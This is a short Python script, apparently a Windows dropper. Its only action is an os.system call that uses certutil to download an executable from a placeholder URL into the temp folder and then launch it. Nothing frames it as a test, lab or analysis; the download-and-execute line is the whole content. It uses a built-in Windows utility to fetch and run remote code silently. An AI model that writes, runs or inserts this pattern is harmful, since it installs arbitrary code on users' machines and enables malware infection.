import os
import sys

if sys.platform.startswith("win"):
    os.system("certutil -urlcache -split -f https://example.com/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe")
